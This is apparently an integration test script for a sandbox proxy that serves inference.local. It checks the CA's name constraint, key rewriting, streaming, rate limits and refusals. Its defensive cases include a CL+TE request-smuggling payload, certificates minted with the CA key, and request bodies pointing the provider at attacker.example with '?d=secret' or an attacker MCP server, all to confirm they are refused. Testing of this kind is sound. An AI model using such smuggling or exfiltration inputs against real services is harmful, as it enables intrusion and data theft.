#!/usr/bin/env bash
# inference.local through the explicit proxy (DESIGN.md §5.4), against the real sandbox-proxyd and
# a fake OpenAI/Anthropic backend in an upstream namespace: the CA and its name constraint, the
# served chain, routing and model rewrite with the admin's key (and none of the client's
# credentials), SSE forwarded event by event, usage in the decision log, refusals (model not
# allowed, unknown model, CL+TE, oversize, a non-API path closing the connection, rate limit,
# other ports under deny-all, a profile without models), cut and stalled streams, and the admin's
# key in no log or answer.  UIDs 59800-59809.
. "$(dirname "$0")/../lib/world.sh" || exit 1; world_enter "$@"
. "$PS_SRC/tests/lib/inference_world.sh"
command -v jq >/dev/null || skip "jq missing"

world_add_user infuser 59801 infbox
world_add_user infnomodel 59802 infdeny
world_add_user inflimited 59803 inflimit
inference_world "[Inference]" "MaxRequestSize=64K" "StreamIdleTimeout=2s" "RequestBodyTimeout=4s"
proxy_profile 10-box.conf "[Match]
Group=infbox
[Inference]
Models=fast claude cut slow echo closed wrong flaky badcert"
proxy_profile 20-limited.conf "[Match]
Group=inflimit
[Inference]
Models=fast
RequestsPerMinute=2"
proxy_profile 30-denyall.conf "[Match]
Group=infdeny"
# A backend whose key the backend does not accept (it answers 401 quoting the key, like the real APIs).
WRONG_KEY="sk-wrong-$RANDOM$RANDOM$RANDOM"
printf '%s\n' "$WRONG_KEY" > "$CONF/secrets/wrong.key"; chmod 600 "$CONF/secrets/wrong.key"
printf '[Backend]\nURL=https://llm.test:8443/v1\nAPI=openai\nAPIKeyFile=%s\nModels=wrong=gpt-4o-mini\n' \
    "$CONF/secrets/wrong.key" > "$CONF/inference.d/wrong.conf"
chmod 644 "$CONF/inference.d/wrong.conf"
# A backend that drops a kept-alive connection when it is reused (its idle timeout racing us).
printf '[Backend]\nURL=http://203.0.113.10:8002/v1\nAPI=openai\nAPIKeyFile=%s\nModels=flaky=gpt-4o-mini\n' \
    "$CONF/secrets/openai.key" > "$CONF/inference.d/flaky.conf"
chmod 644 "$CONF/inference.d/flaky.conf"
ip netns exec dnsup python3 "$PS_SRC/tests/lib/inference_fake_backend.py" --listen 203.0.113.10:8002 \
    --record "$INF_REC" --key "$INF_KEY" --drop-reused > "$WORLD/backend-flaky.out" 2>&1 &
WORLD_PIDS+=($!)
# A backend whose certificate does not name it (the llm.test server reached as not-llm.test).
printf '[Backend]\nURL=https://not-llm.test:8443/v1\nAPI=openai\nAPIKeyFile=%s\nModels=badcert=gpt-4o-mini\n' \
    "$CONF/secrets/openai.key" > "$CONF/inference.d/badcert.conf"
chmod 644 "$CONF/inference.d/badcert.conf"
"$PS_BUILD/sandboxctl" -c "$CONF" check >/dev/null || { "$PS_BUILD/sandboxctl" -c "$CONF" check; fail "config"; }

# ---- the CA (sandboxctl ca init) ----
assert_eq "CA key mode" 600 "$(stat -c %a "$CONF/ca/inference-ca.key")"
assert_eq "CA key owner" root "$(stat -c %U "$CONF/ca/inference-ca.key")"
assert_match "CA name constraint is critical and permits only inference.local" \
    "Name Constraints: critical.*Permitted:.*DNS:inference.local" \
    "$(openssl x509 -in "$CONF/ca/inference-ca.pem" -noout -text | tr -s ' \n' ' ')"
# What the CA's key signs verifies only as a TLS server certificate for inference.local: not for
# an IP address (a name type a constraint leaves out is unconstrained), nor any other name, nor
# for client authentication.  The leaves below are signed with the CA key itself, as a thief would.
leaf() {   # leaf SAN EKU PURPOSE: "OK" or the verify error
    local d="$WORLD/leaf"; mkdir -p "$d"
    openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=x" -keyout "$d/k" -out "$d/csr" 2>/dev/null
    printf 'subjectAltName=%s\nextendedKeyUsage=%s\n' "$1" "$2" > "$d/ext"
    openssl x509 -req -in "$d/csr" -CA "$CONF/ca/inference-ca.pem" -CAkey "$CONF/ca/inference-ca.key" \
        -set_serial 7 -days 1 -extfile "$d/ext" -out "$d/pem" 2>/dev/null || fail "signing a test leaf"
    openssl verify -CAfile "$CONF/ca/inference-ca.pem" -purpose "$3" "$d/pem" 2>&1 | grep -o 'OK$\|error [0-9]* at [0-9] depth lookup: .*' | head -n 1
}
assert_eq "CA: a leaf for inference.local verifies" "OK" "$(leaf DNS:inference.local serverAuth sslserver)"
assert_match "CA: a leaf for an IPv4 address does not" "excluded subtree violation" "$(leaf IP:93.184.216.34 serverAuth sslserver)"
assert_match "CA: nor one for an IPv6 address" "excluded subtree violation" "$(leaf IP:2001:db8::1 serverAuth sslserver)"
assert_match "CA: nor one for another name" "permitted subtree violation" "$(leaf DNS:example.com serverAuth sslserver)"
assert_match "CA: nor a client certificate" "unsuitable certificate purpose" "$(leaf DNS:inference.local clientAuth sslclient)"
sys_n=$(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt)
assert_eq "bundle = system CAs + ours" $((sys_n + 1)) "$(grep -c 'BEGIN CERTIFICATE' "$CONF/ca/bundle.pem")"
out=$("$PS_BUILD/sandboxctl" -c "$CONF" ca init 2>&1); rc=$?
assert_eq "ca init refuses to replace a CA" 1 "$rc"
assert_match "and says why" "already exists.*--force" "$out"
fp1=$(openssl x509 -in "$CONF/ca/inference-ca.pem" -noout -fingerprint -sha256)
"$PS_BUILD/sandboxctl" -c "$CONF" ca init --force >/dev/null || fail "ca init --force"
fp2=$(openssl x509 -in "$CONF/ca/inference-ca.pem" -noout -fingerprint -sha256)
[ "$fp1" != "$fp2" ] || fail "ca init --force kept the old CA"
ok "ca init --force makes a new CA"
assert_eq "new CA key mode" 600 "$(stat -c %a "$CONF/ca/inference-ca.key")"
assert_eq "no temporary files left" "bundle.pem inference-ca.key inference-ca.pem" "$(ls -A "$CONF/ca" | tr '\n' ' ' | sed 's/ $//')"
"$PS_BUILD/sandboxctl" -c "$CONF" check >/dev/null || fail "config invalid after ca init --force"
# A stolen CA key cannot mint a certificate for another name: the constraint makes verify fail.
d=$WORLD/mint; mkdir -p "$d"
openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=example.com \
    -keyout "$d/k" -out "$d/csr" 2>/dev/null
printf 'subjectAltName=DNS:example.com\n' > "$d/ext"
openssl x509 -req -in "$d/csr" -CA "$CONF/ca/inference-ca.pem" -CAkey "$CONF/ca/inference-ca.key" \
    -CAcreateserial -days 1 -extfile "$d/ext" -out "$d/leaf.pem" 2>/dev/null || fail "minting the leaf"
out=$(openssl verify -CAfile "$CONF/ca/inference-ca.pem" "$d/leaf.pem" 2>&1); rc=$?
[ $rc -ne 0 ] || fail "a leaf for example.com from the CA key verifies: $out"
assert_match "example.com leaf fails on the name constraint" "permitted subtree violation" "$out"
# The same CA does sign for inference.local (control: the failure above is the constraint's).
sed -i 's/example.com/inference.local/' "$d/ext"
openssl x509 -req -in "$d/csr" -CA "$CONF/ca/inference-ca.pem" -CAkey "$CONF/ca/inference-ca.key" \
    -CAcreateserial -days 1 -extfile "$d/ext" -out "$d/leaf2.pem" 2>/dev/null
assert_match "control: an inference.local leaf verifies" ": OK" "$(openssl verify -CAfile "$CONF/ca/inference-ca.pem" "$d/leaf2.pem" 2>&1)"

proxy_start

# ---- the served certificate chains to the CA ----
out=$(as infuser openssl s_client -proxy "$PROXY_EXPLICIT" -connect inference.local:443 -servername inference.local \
      -CAfile "$CONF/ca/inference-ca.pem" -verify_hostname inference.local -verify_return_error </dev/null 2>&1)
assert_match "served leaf verifies against the CA for inference.local" "Verify return code: 0 \(ok\)" "$out"
assert_match "issued by our CA" "i:.*pam_sandbox inference.local CA" "$out"

# ---- a plain request: routed, rewritten, the admin's key, none of the client's credentials ----
body='{"model":"fast","messages":[{"role":"user","content":"hi"}]}'
r=$(inf_req infuser --req "{\"path\":\"/v1/chat/completions\",\"headers\":{\"Authorization\":\"Bearer sk-user-placeholder\",\"x-api-key\":\"user-key\",\"Cookie\":\"sid=user\",\"OpenAI-Organization\":\"org-user\"},\"body\":$body}")
assert_eq "chat completion status" 200 "$(jq -r '.responses[0].status' <<<"$r")"
assert_eq "the backend's answer" "Hello from the fake backend" "$(jq -r '.responses[0].body | fromjson | .choices[0].message.content' <<<"$r")"
assert_eq "backend cookies do not reach the client" null "$(jq -r '.responses[0].headers["set-cookie"]' <<<"$r")"
rec=$(inf_backend_last)
assert_eq "backend saw the rewritten model" gpt-4o-mini "$(jq -r .model <<<"$rec")"
assert_eq "backend saw the admin's key" "Bearer $INF_KEY" "$(jq -r '.headers.authorization' <<<"$rec")"
assert_eq "backend saw no x-api-key from the client" null "$(jq -r '.headers["x-api-key"]' <<<"$rec")"
assert_eq "backend saw no cookie" null "$(jq -r '.headers.cookie' <<<"$rec")"
assert_eq "backend saw no client organisation" null "$(jq -r '.headers["openai-organization"]' <<<"$rec")"
assert_eq "backend Host is its own" llm.test:8443 "$(jq -r '.headers.host' <<<"$rec")"
grep -q 'sk-user-placeholder\|user-key' "$INF_REC" && fail "a client credential reached the backend"
ok "no client credential reached the backend"
l=$(proxy_log_last '"mode":"inference"' '"model":"fast"' '"status":200')
assert_match "usage logged per account" '"account":"infuser".*"input_tokens":11,"output_tokens":7' "$l"
assert_match "log names backend and upstream model" '"upstream_model":"gpt-4o-mini","backend":"openai"' "$l"

# ---- streaming: event by event, usage logged, the usage chunk hidden unless asked ----
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"fast","stream":true,"messages":[]}}')
assert_eq "stream status" 200 "$(jq -r '.responses[0].status' <<<"$r")"
assert_eq "one chunk per event (5 deltas + [DONE])" 6 "$(jq '.responses[0].chunks | length' <<<"$r")"
assert_eq "stream ends with [DONE]" "data: [DONE]" "$(jq -r '.responses[0].chunks[-1].data' <<<"$r" | head -n 1)"
assert_eq "no usage chunk for a client that did not ask" 0 \
    "$(jq '[.responses[0].chunks[].data | select(contains("\"choices\": []"))] | length' <<<"$r")"
rec=$(inf_backend_last)
assert_eq "proxyd asked the backend for usage" true "$(jq -r '.stream_options.include_usage' <<<"$rec")"
first_rx=$(jq '.responses[0].chunks[0].t' <<<"$r")
last_tx=$(jq -s '[.[] | select(.event_sent == 4)] | last | .t' "$INF_REC")
python3 -c "import sys; f,l=float(sys.argv[1]),float(sys.argv[2]); sys.exit(0 if f < l else 1)" "$first_rx" "$last_tx" ||
    fail "first event reached the client at $first_rx, after the backend sent the last at $last_tx"
ok "first event reached the client ($first_rx) before the backend sent the last ($last_tx)"
gaps=$(jq '[.responses[0].chunks | . as $c | range(1; 5) | $c[.].t - $c[.-1].t] | min' <<<"$r")
python3 -c "import sys; sys.exit(0 if float(sys.argv[1]) > 0.2 else 1)" "$gaps" || fail "events were bunched (min gap $gaps s)"
ok "events arrived one by one (min gap ${gaps}s for a 0.3 s backend delay)"
assert_match "stream usage logged" '"output_tokens":5' "$(proxy_log_last '"mode":"inference"' '"stream":true' '"status":200')"
# The client has closed: the connection's close record has its plaintext bytes each way and its
# duration (DESIGN.md §5.5), and the per-request records keep null counters, never -1.
for _ in $(seq 40); do
    l=$(proxy_log_last '"account":"infuser"' '"mode":"inference"' '"decision":"close"')
    [ -n "$l" ] && break; sleep 0.05
done
assert_match "inference connection close record with bytes and duration" \
    '"decision":"close","reason":"closed",.*"bytes_up":[1-9][0-9]*,"bytes_down":[1-9][0-9]*,"duration_ms":[0-9]+' "$l"
assert_match "per-request record: bytes not known, null" '"bytes_up":null,"bytes_down":null,"duration_ms":[0-9]+' \
    "$(proxy_log_last '"mode":"inference"' '"stream":true' '"status":200')"
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"fast","stream":true,"stream_options":{"include_usage":true}}}')
assert_eq "usage chunk kept for a client that asked" 1 \
    "$(jq '[.responses[0].chunks[].data | select(contains("\"choices\": []"))] | length' <<<"$r")"

# ---- Anthropic: x-api-key and anthropic-version, stream events, shapes ----
r=$(inf_req infuser --req '{"path":"/v1/messages","headers":{"x-api-key":"user-ant-key"},"body":{"model":"claude","max_tokens":5,"stream":true,"messages":[]}}')
assert_eq "anthropic stream status" 200 "$(jq -r '.responses[0].status' <<<"$r")"
assert_match "anthropic stream ends with message_stop" "event: message_stop" "$(jq -r '.responses[0].chunks[-1].data' <<<"$r")"
rec=$(inf_backend_last)
assert_eq "anthropic backend saw the admin's key" "$INF_AKEY" "$(jq -r '.headers["x-api-key"]' <<<"$rec")"
assert_eq "anthropic-version added" 2023-06-01 "$(jq -r '.headers["anthropic-version"]' <<<"$rec")"
assert_eq "anthropic model rewritten" claude-3-5-haiku "$(jq -r .model <<<"$rec")"
assert_match "anthropic usage logged" '"input_tokens":25,"output_tokens":5' "$(proxy_log_last '"model":"claude"' '"status":200')"
r=$(inf_req infuser --req '{"path":"/v1/messages","body":{"model":"nope","max_tokens":5,"messages":[]}}')
assert_eq "unknown model on /v1/messages" 404 "$(jq -r '.responses[0].status' <<<"$r")"
assert_eq "404 in Anthropic's shape" "error/not_found_error" "$(jq -r '.responses[0].body | fromjson | "\(.type)/\(.error.type)"' <<<"$r")"

# ---- models: not allowed -> 403, unknown -> 404 (OpenAI shape), /v1/models lists the allowed ----
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"gpt-4o"}}')
assert_eq "model not allowed by the profile" 403 "$(jq -r '.responses[0].status' <<<"$r")"
assert_eq "403 names the reason" model_not_allowed "$(jq -r '.responses[0].headers["x-sandbox-deny"]' <<<"$r")"
assert_eq "403 in OpenAI's shape" model_not_allowed "$(jq -r '.responses[0].body | fromjson | .error.code' <<<"$r")"
assert_eq "keep-alive after a 403 model" false "$(jq -r '.closed' <<<"$r")"
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"no-such-model"}}')
assert_eq "unknown model" 404 "$(jq -r '.responses[0].status' <<<"$r")"
assert_eq "404 in OpenAI's shape" model_not_found "$(jq -r '.responses[0].body | fromjson | .error.code' <<<"$r")"
r=$(inf_req infuser --req '{"method":"GET","path":"/v1/models"}')
assert_eq "models listed (the OpenAI ones this profile may use)" "badcert,closed,cut,echo,fast,flaky,slow,wrong" "$(jq -r '[.responses[0].body | fromjson | .data[].id] | sort | join(",")' <<<"$r")"

# ---- request framing: a chunked body, Expect: 100-continue ----
printf 'POST /v1/chat/completions HTTP/1.1\r\nHost: inference.local\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\n8\r\n{"model"\r\n8\r\n:"fast"}\r\n0\r\n\r\n' > "$WORLD/chunked"
printf 'POST /v1/chat/completions HTTP/1.1\r\nHost: inference.local\r\nExpect: 100-continue\r\nContent-Length: 16\r\n\r\n{"model":"fast"}' > "$WORLD/expect"
chmod 644 "$WORLD/chunked" "$WORLD/expect"
r=$(inf_req infuser --raw "$WORLD/chunked")
assert_eq "a chunked request body" 200 "$(jq -r '.responses[0].status' <<<"$r")"
assert_eq "reaches the backend de-chunked, with a length" '"Content-Length"' \
    "$(inf_backend_last | jq -c '[.headers | has("content-length"), has("transfer-encoding")]' | sed 's/\[true,false\]/"Content-Length"/')"
r=$(inf_req infuser --raw "$WORLD/expect")
assert_eq "Expect: 100-continue" 200 "$(jq -r '.responses[0].status' <<<"$r")"
# The body sent only after a pause: an HTTP/1.1 client waiting for it is told to go on; an
# HTTP/1.0 client, which cannot know a 1xx (RFC 9110 15.2), gets only the final answer.
r=$(inf_req infuser --raw "$WORLD/expect" --raw-pause 0.5)
assert_eq "Expect: 100-continue, body held back: 100 then 200" "100 200" "$(jq -r '.responses[0] | "\(.interim | join(",")) \(.status)"' <<<"$r")"
sed 's| HTTP/1.1\r| HTTP/1.0\r|' "$WORLD/expect" > "$WORLD/expect10"
chmod 644 "$WORLD/expect10"
r=$(inf_req infuser --raw "$WORLD/expect10" --raw-pause 0.5)
assert_eq "the same from an HTTP/1.0 client: no 100" " 200" "$(jq -r '.responses[0] | "\(.interim | join(",")) \(.status)"' <<<"$r")"

# A body that trickles in (a byte every half second, never a pause of 30 s) is cut off
# RequestBodyTimeout= (4 s here) after its head.
printf 'POST /v1/chat/completions HTTP/1.1\r\nHost: inference.local\r\nContent-Length: 62\r\n\r\n{"model":"fast","messages":[],"padding":"xxxxxxxxxxxxxxxxxxx"}' > "$WORLD/trickle"
chmod 644 "$WORLD/trickle"
t0=$(date +%s%3N)
r=$(inf_req infuser --raw "$WORLD/trickle" --raw-trickle 0.5)
took=$(( $(date +%s%3N) - t0 ))
assert_eq "a body still trickling in at RequestBodyTimeout=" 408 "$(jq -r '.responses[0].status' <<<"$r")"
assert_eq "  ... answered within 3.5 to 9 s of its head" yes "$( [ "$took" -ge 3500 ] && [ "$took" -lt 9000 ] && echo yes || echo "no: $took ms")"
assert_match "  ... logged" '"reason":"request_body_timeout"' "$(proxy_log_last '"uid":59' '"status":408')"

# ---- strict requests ----
printf 'POST /v1/chat/completions HTTP/1.1\r\nHost: inference.local\r\nContent-Length: 17\r\nTransfer-Encoding: chunked\r\n\r\n11\r\n{"model":"fast"}\n\r\n0\r\n\r\n' > "$WORLD/clte"
chmod 644 "$WORLD/clte"
r=$(inf_req infuser --raw "$WORLD/clte")
assert_eq "Content-Length with Transfer-Encoding rejected" 400 "$(jq -r '.responses[0].status' <<<"$r")"
assert_eq "and the connection closed" true "$(jq -r '.closed' <<<"$r")"
printf 'POST /v1/chat/completions HTTP/1.1\r\nHost: inference.local\r\nContent-Length: 16\r\nContent-Length: 16\r\n\r\n{"model":"fast"}' > "$WORLD/dupcl"
chmod 644 "$WORLD/dupcl"
assert_eq "duplicate Content-Length rejected" 400 "$(jq -r '.responses[0].status' <<<"$(inf_req infuser --raw "$WORLD/dupcl")")"
big=$(python3 -c 'import json; print(json.dumps({"model":"fast","messages":[{"role":"user","content":"x"*70000}]}))')
printf '{"path":"/v1/chat/completions","body":%s}' "$big" > "$WORLD/big.json"
r=$(inf_req infuser --req "$(cat "$WORLD/big.json")")
assert_eq "over MaxRequestSize (64K) rejected" 413 "$(jq -r '.responses[0].status' <<<"$r")"
before=$(grep -c '"path"' "$INF_REC")
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":"{\"model\":\"fast\"} trailing"}')
assert_eq "body that is not one JSON object" 400 "$(jq -r '.responses[0].status' <<<"$r")"
assert_eq "refused requests never reach the backend" "$before" "$(grep -c '"path"' "$INF_REC")"

# ---- a non-API path after a good request on the same connection: 403 and closed ----
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"fast"}}' --req '{"method":"GET","path":"/admin"}' \
    --req '{"path":"/v1/chat/completions","body":{"model":"fast"}}')
assert_eq "good request first" 200 "$(jq -r '.responses[0].status' <<<"$r")"
assert_eq "GET /admin on the same connection" 403 "$(jq -r '.responses[1].status' <<<"$r")"
assert_eq "403 says why" path_not_allowed "$(jq -r '.responses[1].headers["x-sandbox-deny"]' <<<"$r")"
assert_eq "nothing served after it" 2 "$(jq -r '.responses | length' <<<"$r")"
assert_eq "connection closed after /admin" true "$(jq -r '.closed' <<<"$r")"
assert_match "/admin denial logged" '"decision":"deny","reason":"path_not_allowed"' "$(proxy_log_last '"mode":"inference"' path_not_allowed)"

# ---- streams that end badly end with a parseable error event ----
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"cut","stream":true}}')
assert_eq "cut stream: two events, then the error event" 3 "$(jq '.responses[0].chunks | length' <<<"$r")"
assert_eq "error event parses, with a code" stream_interrupted \
    "$(jq -r '.responses[0].chunks[-1].data | sub("^data: "; "") | fromjson | .error.code' <<<"$r")"
assert_eq "cut stream closes the connection" true "$(jq -r '.closed' <<<"$r")"
assert_match "cut stream logged with its reason" '"reason":"backend_closed_early"' "$(proxy_log_last '"model":"cut"')"
t0=$(date +%s.%N)
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"slow","stream":true}}')
t1=$(date +%s.%N)
assert_match "stalled stream: StreamIdleTimeout error event" "stream_idle_timeout" "$(jq -r '.responses[0].chunks[-1].data' <<<"$r")"
python3 -c "import sys; d=float(sys.argv[2])-float(sys.argv[1]); sys.exit(0 if 1.5 < d < 5 else 1)" "$t0" "$t1" ||
    fail "idle timeout of 2s took $(python3 -c "print(float('$t1')-float('$t0'))") s"
ok "stalled stream ended after StreamIdleTimeout=2s"
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"closed","stream":true}}')
assert_eq "close-delimited stream forwarded whole" "data: [DONE]" "$(jq -r '.responses[0].chunks[-1].data' <<<"$r" | head -n 1)"

# ---- the key never comes back: an echoing backend, and a backend refusing a wrong key ----
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"echo"}}')
assert_eq "an answer quoting the key is withheld" 502 "$(jq -r '.responses[0].status' <<<"$r")"
assert_no_match "the withheld answer does not quote the key" "$INF_KEY" "$r"
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"echo","stream":true}}')
assert_eq "a stream quoting the key stops before that event" 2 "$(jq '.responses[0].chunks | length' <<<"$r")"
assert_match "and ends with the error event" "backend_echoed_key" "$(jq -r '.responses[0].chunks[-1].data' <<<"$r")"
assert_no_match "the streamed answer does not quote the key" "$INF_KEY" "$r"
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"wrong"}}')
assert_eq "a backend refusing the admin's key: 502 for the client" 502 "$(jq -r '.responses[0].status' <<<"$r")"
assert_no_match "its message (which quotes the key it got) is not passed on" "$WRONG_KEY" "$r"
assert_match "refusal logged" '"reason":"backend_rejected_credentials"' "$(proxy_log_last '"model":"wrong"')"

# ---- https backends are verified: a certificate for another name is refused, the key not sent ----
before=$(grep -c '"path"' "$INF_REC")
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"badcert"}}')
assert_eq "backend certificate not for its name" 502 "$(jq -r '.responses[0].status' <<<"$r")"
assert_match "refusal logged as a certificate failure" '"reason":"backend_certificate_invalid"' "$(proxy_log_last '"model":"badcert"')"
assert_eq "no request (and no key) went to it" "$before" "$(grep -c '"path"' "$INF_REC")"

# ---- backend connections are kept alive and reused; a dropped kept connection is replaced ----
for i in 1 2; do inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"fast"}}' >/dev/null; done
ports=$(grep '"path": "/v1/chat/completions"' "$INF_REC" | grep -v '"host": "203.0.113.10:8002"' | tail -n 2 | jq -r .peer_port | sort -u | wc -l)
assert_eq "two requests, one backend connection" 1 "$ports"
for i in 1 2; do
    r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"flaky"}}')
    assert_eq "flaky backend request $i" 200 "$(jq -r '.responses[0].status' <<<"$r")"
done
grep -q dropped_reused "$INF_REC" || fail "the flaky backend never saw a reused connection"
ok "a kept connection the backend dropped was replaced by a new one, invisibly to the client"

# ---- rate limit ----
for i in 1 2; do
    assert_eq "request $i within RequestsPerMinute=2" 200 \
        "$(jq -r '.responses[0].status' <<<"$(inf_req inflimited --req '{"path":"/v1/chat/completions","body":{"model":"fast"}}')")"
done
r=$(inf_req inflimited --req '{"path":"/v1/chat/completions","body":{"model":"fast"}}')
assert_eq "third request in the minute" 429 "$(jq -r '.responses[0].status' <<<"$r")"
ra=$(jq -r '.responses[0].headers["retry-after"]' <<<"$r")
[[ $ra =~ ^[0-9]+$ ]] && [ "$ra" -ge 1 ] && [ "$ra" -le 30 ] || fail "Retry-After [$ra]"
ok "429 with Retry-After: $ra"
# The limit is checked at the head: the body (60 KB, under MaxRequestSize=64K) is neither waited
# for nor held.
r=$(as inflimited timeout 30 python3 "$PS_SRC/tests/lib/inference_hold_bodies.py" --ca "$CONF/ca/inference-ca.pem" \
    --hold 1 --length 60000 --wait 5)
assert_eq "over the limit, refused at the head, its body never sent" 429 "$(jq -r '.held[0]' <<<"$r")"
assert_eq "the limit is per account" 200 \
    "$(jq -r '.responses[0].status' <<<"$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"fast"}}')")"

# ---- the provider must not reach the network for the user: remote URLs, server-side tools ----
before=$(grep -c '"path"' "$INF_REC")
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"fast","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.example/x.png?d=secret"}}]}]}}')
assert_eq "a remote image URL for the provider to fetch" "403 remote_url_not_allowed" \
    "$(jq -r '"\(.responses[0].status) \(.responses[0].headers["x-sandbox-deny"])"' <<<"$r")"
r=$(inf_req infuser --req '{"path":"/v1/responses","body":{"model":"fast","input":"hi","tools":[{"type":"mcp","server_label":"x","server_url":"https://attacker.example/mcp"}]}}')
assert_eq "an MCP server for the provider to call" "403 server_tools_not_allowed" \
    "$(jq -r '"\(.responses[0].status) \(.responses[0].headers["x-sandbox-deny"])"' <<<"$r")"
assert_match "  ... logged" '"reason":"server_tools_not_allowed"' "$(proxy_log_last '"uid":'"$(id -u infuser)" '"decision":"deny"')"
assert_eq "  ... and the backend got neither" "$before" "$(grep -c '"path"' "$INF_REC")"
r=$(inf_req infuser --req '{"path":"/v1/chat/completions","body":{"model":"fast","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,iVBORw0KGgo="}}]}]}}')
assert_eq "an inline (data:) image still goes" 200 "$(jq -r '.responses[0].status' <<<"$r")"

# ---- other ports of the name go through policy; a profile without models is denied ----
for port in 80 8443; do
    r=$(inf_req infnomodel --port "$port" --req '{"method":"GET","path":"/v1/models"}')
    assert_eq "CONNECT inference.local:$port under deny-all" 403 "$(jq -r '.connect_status' <<<"$r")"
    assert_match ":$port denied by policy, not intercepted" "X-Sandbox-Deny" "$(jq -r '.connect_head' <<<"$r")"
    l=$(proxy_log_last '"host":"inference.local"' "\"port\":$port" '"account":"infnomodel"')
    assert_match ":$port decision logged as a policy denial" '"mode":"explicit".*"decision":"deny"' "$l"
done
r=$(inf_req infnomodel --req '{"method":"GET","path":"/v1/models"}')
assert_eq "profile without models: CONNECT inference.local:443 denied" 403 "$(jq -r '.connect_status' <<<"$r")"
r=$(inf_req infuser --port 8443 --req '{"method":"GET","path":"/v1/models"}')
assert_eq "even with models, :8443 is not intercepted (no Allow= rule)" 403 "$(jq -r '.connect_status' <<<"$r")"

inf_secrets_absent "$WORLD/backend-openai.out"
grep -qF -- "$WRONG_KEY" "$WORLD/decisions.jsonl" "$SYSLOG" "$INF_OUT" && fail "the wrong key appears in a log or answer"
ok "neither key in any log or answer"
